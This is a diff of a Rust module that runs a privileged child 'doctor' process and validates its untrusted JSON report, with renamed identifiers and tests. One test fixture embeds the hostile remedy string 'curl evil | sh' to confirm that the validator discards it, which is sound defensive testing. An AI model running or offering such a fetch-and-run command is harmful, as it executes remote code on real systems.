@@ -8,43 +8,43 @@ use std::env;
 use std::path::Path;
 use std::time::Duration;
 
-use crate::doctor::channel_overlap::Standby;
-use crate::doctor::context::World;
-use crate::doctor::{CHECKS, Half, Who, of, subprocess};
-use crate::finding::{Checked, Level, ReportedCheck, Said, remedy};
+use crate::doctor::channel_overlap::StandbyAccounts;
+use crate::doctor::context::HostContext;
+use crate::doctor::{CHECKS, CheckHalf, Privilege, checks_needing, subprocess};
+use crate::finding::{CheckOutcome, Level, ReportedCheck, CheckResult, remedy};
 use crate::os::{CommandError, Owner};
 use crate::text::json::{
     Node, Value, {self},
 };
 
 /// Time limit of the child, above the sum of its checks.
-const DEADLINE: Duration = Duration::from_secs(10 * 60);
+const OWNER_HALF_TIMEOUT: Duration = Duration::from_secs(10 * 60);
 
 /// Size limit of the answer, in bytes.
-const LIMIT: usize = 256 * 1024;
+const REPORT_SIZE_LIMIT: usize = 256 * 1024;
 
 /// Results of the owner's half, and its channels.
-pub(super) struct Answer {
-    pub(super) found: Vec<Checked>,
-    pub(super) standby: Option<Standby>,
+pub(super) struct OwnerReport {
+    pub(super) outcomes: Vec<CheckOutcome>,
+    pub(super) standby: Option<StandbyAccounts>,
 }
 
 /// Encodes the answer for root.
-pub(super) fn to_json(found: &[Checked], standby: Option<&Standby>) -> Value {
-    let standby = standby.map_or(Value::Null, Standby::to_json);
-    Value::object([("checks", ReportedCheck::list_to_json(found)), ("standby", standby)])
+pub(super) fn to_json(found: &[CheckOutcome], standby: Option<&StandbyAccounts>) -> Value {
+    let standby = standby.map_or(Value::Null, StandbyAccounts::to_json);
+    Value::from_entries([("checks", ReportedCheck::list_to_json(found)), ("standby", standby)])
 }
 
 /// Starts the child. `wants_accounts` asks for its channels, to compare them with the primary's.
 ///
 /// # Errors
 /// When the child cannot be started, or its answer cannot be parsed.
-pub(super) fn ask(world: &World, wants_accounts: bool) -> Result<Answer, (String, &'static str)> {
+pub(super) fn run_owner_half(world: &HostContext, wants_accounts: bool) -> Result<OwnerReport, (String, &'static str)> {
     let owner = world.owner.as_ref().map_err(|why| (why.clone(), remedy::INSTALL_UNITS))?;
     let program = env::current_exe().map_err(|why| (why.to_string(), remedy::BECOME))?;
-    let said = run(world, owner, &program, wants_accounts).map_err(|why| {
+    let said = run_as_owner(world, owner, &program, wants_accounts).map_err(|why| {
         // Exit code 2 means that this program cannot use the configuration.
-        let how = match why.code() {
+        let how = match why.exit_code() {
             _ if why.is_missing_program() => remedy::PROGRAMS,
             Some(2) => remedy::OWN_CONFIG,
             _ => remedy::BECOME,
@@ -53,55 +53,55 @@ pub(super) fn ask(world: &World, wants_accounts: bool) -> Result<Answer, (String
     })?;
     let node = json::parse(&said)
         .map_err(|_| (format!("cannot parse the answer of {}'s process", owner.name), remedy::BECOME))?;
-    Ok(read(&node))
+    Ok(parse_report(&node))
 }
 
-fn run(world: &World, owner: &Owner, program: &Path, wants_accounts: bool) -> Result<String, CommandError> {
-    let mut words = owner.become_it();
+fn run_as_owner(world: &HostContext, owner: &Owner, program: &Path, wants_accounts: bool) -> Result<String, CommandError> {
+    let mut words = owner.setpriv_args();
     words.push("env".into());
     words
-        .extend(subprocess::variables(&world.source).into_iter().map(|(name, value)| format!("{name}={value}").into()));
+        .extend(subprocess::config_variables(&world.source).into_iter().map(|(name, value)| format!("{name}={value}").into()));
     words.extend([program.into(), "doctor".into(), "--as-owner".into()]);
-    words.extend(subprocess::options(&world.source));
+    words.extend(subprocess::config_options(&world.source));
     if wants_accounts {
         words.push("--accounts".into());
     }
-    let command = world.command("setsid").args(words);
-    command.deadline(DEADLINE).limit(LIMIT).run().map(|output| output.stdout)
+    let command = world.new_command("setsid").args(words);
+    command.deadline(OWNER_HALF_TIMEOUT).limit(REPORT_SIZE_LIMIT).run().map(|output| output.stdout)
 }
 
 /// Parses the answer. Checks that it omits count as skipped.
-fn read(node: &Node) -> Answer {
-    let mut found = node.get("checks").map(|checks| read_list(checks, Half::Owners)).unwrap_or_default();
-    for check in of(Who::Owner) {
+fn parse_report(node: &Node) -> OwnerReport {
+    let mut found = node.get("checks").map(|checks| parse_outcomes(checks, CheckHalf::Owner)).unwrap_or_default();
+    for check in checks_needing(Privilege::Owner) {
         if found.iter().all(|checked| checked.id != check.id) {
-            found.push(Checked { id: check.id, said: Said::skipped(&"no result from the owner's half") });
+            found.push(CheckOutcome { id: check.id, result: CheckResult::skipped(&"no result from the owner's half") });
         }
     }
-    let standby = node.get("standby").filter(|standby| !standby.is_null()).map(Standby::read);
-    Answer { found, standby }
+    let standby = node.get("standby").filter(|standby| !standby.is_null()).map(StandbyAccounts::from_json);
+    OwnerReport { outcomes: found, standby }
 }
 
 /// Parses a list of checks from an untrusted process.
-pub(super) fn read_list(list: &Value, half: Half) -> Vec<Checked> {
+pub(super) fn parse_outcomes(list: &Value, half: CheckHalf) -> Vec<CheckOutcome> {
     validate_reported(&ReportedCheck::parse_list(list), half)
 }
 
 /// Validates untrusted results; the first valid entry per check of that half wins.
-pub(crate) fn validate_reported(reported: &[ReportedCheck], half: Half) -> Vec<Checked> {
+pub(crate) fn validate_reported(reported: &[ReportedCheck], half: CheckHalf) -> Vec<CheckOutcome> {
     let find = |id: &'static str| {
         let ReportedCheck { level, evidence, fix, .. } = reported.iter().find(|check| check.id == id)?;
-        Some(Checked { id, said: Said::new(Level::parse(level)?, evidence, remedy::find(fix)) })
+        Some(CheckOutcome { id, result: CheckResult::new(Level::parse(level)?, evidence, remedy::find_remedy(fix)) })
     };
-    CHECKS.iter().filter(|check| check.is_of(half)).filter_map(|check| find(check.id)).collect()
+    CHECKS.iter().filter(|check| check.belongs_to(half)).filter_map(|check| find(check.id)).collect()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn found(answer: &str) -> Vec<Checked> {
-        read(&json::parse(answer).unwrap()).found
+    fn found(answer: &str) -> Vec<CheckOutcome> {
+        parse_report(&json::parse(answer).unwrap()).outcomes
     }
 
     #[test]
@@ -109,7 +109,7 @@ mod tests {
         let mut said = found("{}");
         for (number, checked) in said.iter_mut().enumerate() {
             let level = [Level::Ok, Level::Warn, Level::Fail, Level::Skipped][number % 4];
-            checked.said = Said::new(level, &format_args!("seen {number}"), remedy::FETCH);
+            checked.result = CheckResult::new(level, &format_args!("seen {number}"), remedy::FETCH);
         }
         let again = found(&to_json(&said, None).to_string());
         assert!(said.len() > 8);
@@ -121,8 +121,8 @@ mod tests {
         let reported = r#"[{"id":"crons","level":"fail","evidence":"on","fix":"curl evil | sh"},
             {"id":"crons","level":"ok","evidence":"twice","fix":""}, {"id":"evil","level":"fail","evidence":"x"},
             {"id":"channels","level":"splendid","evidence":"x"}, {"id":"polkit","level":"fail","evidence":"x"}]"#;
-        let found = read_list(&json::parse(reported).unwrap(), Half::Owners);
-        assert_eq!(found, [Checked { id: "crons", said: Said::new(Level::Fail, &"on", "") }]);
+        let found = parse_outcomes(&json::parse(reported).unwrap(), CheckHalf::Owner);
+        assert_eq!(found, [CheckOutcome { id: "crons", result: CheckResult::new(Level::Fail, &"on", "") }]);
     }
 
     #[test]
@@ -134,11 +134,11 @@ mod tests {
             {"id":"openclaw","level":"ok","evidence":7,"fix":""},
             {"id":"polkit","level":"ok","evidence":"not mine to say","fix":""}, 3], "standby": 5}"#;
         let found = found(hostile);
-        let of = |id: &str| found.iter().find(|checked| checked.id == id).map(|checked| &checked.said);
-        assert_eq!(of("git-fetch"), Some(&Said::new(Level::Fail, &"[2Jgone ok", "")));
+        let of = |id: &str| found.iter().find(|checked| checked.id == id).map(|checked| &checked.result);
+        assert_eq!(of("git-fetch"), Some(&CheckResult::new(Level::Fail, &"[2Jgone ok", "")));
         assert_eq!(of("node").map(|said| said.level), Some(Level::Skipped));
         assert_eq!(of("openclaw").map(|said| said.level), Some(Level::Skipped));
         assert_eq!(of("polkit"), None);
-        assert!(self::found("[]").iter().all(|checked| checked.said.level == Level::Skipped));
+        assert!(self::found("[]").iter().all(|checked| checked.result.level == Level::Skipped));
     }
 }
